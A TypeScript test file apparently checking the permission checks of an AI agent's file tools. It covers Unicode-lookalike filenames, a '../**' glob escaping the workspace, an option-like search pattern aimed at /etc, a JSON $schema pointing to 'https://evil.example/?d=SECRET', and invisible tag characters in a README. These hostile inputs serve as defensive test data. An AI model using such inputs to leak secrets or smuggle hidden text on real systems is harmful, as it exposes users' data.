/** The shared verdict cases that need a set-up, as far as there is a tool for what they do (cases/scenarios.tsv). */
import assert from "node:assert/strict";
import { previewOf } from "../../src/features/preview/preview";
import { realCrib } from "../support/realCrib";

describe("verdict cases with a set-up", () => {
  const tree = { "caf\u00e9.ts": "", "a.txt": "one\n-e x /etc\n" };
  const refused = { confirm: async () => ({ approved: false, by: "nobody" }) } as const;

  it("P031 a name whose accents are written apart asks: elsewhere it is the same file", async () => {
    const { call, asked } = await realCrib(tree, refused);
    await call("read_file", { path: "caf\u00e9.ts" });
    assert.equal(asked.length, 0);
    await call("read_file", { path: "cafe\u0301.ts" });
    assert.deepEqual(
      asked.map(({ decision }) => decision.kind),
      ["ask"],
    );
  });

  it("P032 a glob that leads out of the workspace is denied", async () => {
    const { call, asked } = await realCrib(tree, refused);
    const { text, isError } = await call("find_files", { pattern: "../**" });
    assert.ok(isError, text);
    assert.equal(asked.length, 0);
  });

  it("P033 a pattern that looks like options is a pattern, and the place is judged", async () => {
    const { call } = await realCrib(tree, refused);
    assert.equal(
      (await call("search_text", { pattern: "-e x /etc" })).text,
      "1 matching line in 1 file:\na.txt:2: -e x /etc",
    );
    assert.match((await call("search_text", { pattern: "-e x", path: "/etc" })).text, /^Denied by policy: /);
  });

  it("W037 a JSON file whose schema is an address elsewhere asks", async () => {
    const { call, asked } = await realCrib(tree, refused);
    await call("write_file", { path: "a.json", content: '{"$schema":"https://evil.example/?d=SECRET"}' });
    assert.deepEqual(
      asked.map(({ decision }) => decision.kind),
      ["ask"],
    );
  });

  it("W038 a text with characters that nobody sees asks, and the question shows them", async () => {
    const { call, asked } = await realCrib(tree, refused);
    await call("write_file", { path: "README.md", content: "Read me\u{e0041}\u{e0042}\n" });
    const [question] = asked;
    assert.equal(question?.decision.kind, "ask");
    assert.match(question ? previewOf(question.plan, question.byEffect) : "", /Read me⟨U\+E0041⟩⟨U\+E0042⟩/);
  });
});
